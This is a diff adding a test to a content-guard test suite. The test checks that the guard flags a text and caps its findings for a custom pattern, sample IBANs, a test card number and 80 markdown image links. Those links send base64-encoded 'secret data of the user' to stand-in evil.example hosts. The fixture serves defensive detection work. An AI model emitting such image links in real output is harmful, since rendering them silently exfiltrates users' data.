@@ -30,6 +30,24 @@ describe('guard.yaml', () => {
     expect(guard.inspect(ORDER, 'input', settingsOf('{}'))).toEqual(guard.inspect(ORDER, 'input'));
   });
 
+  it('is told of once at least, however many heavier signs a text has', () => {
+    const file = `directions: { context: { block: 20 } }
+patterns: [{ id: falcon, pattern: falcon, weight: 4, severity: medium, message: Names a project. }]`;
+    const links = Array.from(
+      { length: 80 },
+      (_, index) => `![a](https://x${index}.evil.example/?d=c2VjcmV0IGRhdGEgb2YgdGhlIHVzZXI${index})`,
+    );
+    const ibans = Array.from({ length: 80 }, () => 'IBAN GB82 WEST 1234 5698 7654 32.');
+    const text = ['falcon', ...links, ...ibans, 'card 4111 1111 1111 1111'].join('\n');
+    const { verdict, findings } = inspect(text, 'context', file);
+    const counts = Object.groupBy(findings, ({ detector }) => detector);
+    expect(verdict).toBe('flag');
+    expect(counts['destination.query']).toHaveLength(64);
+    expect(counts['operator.falcon']).toHaveLength(1);
+    expect(counts['pii.iban']).toHaveLength(63);
+    expect(Object.keys(counts)).toHaveLength(4);
+  });
+
   it.each([
     { name: 'a profile', file: 'profile: permissive', verdict: 'flag' },
     { name: 'a level of a direction', file: 'directions: { input: { block: 20 } }', verdict: 'flag' },
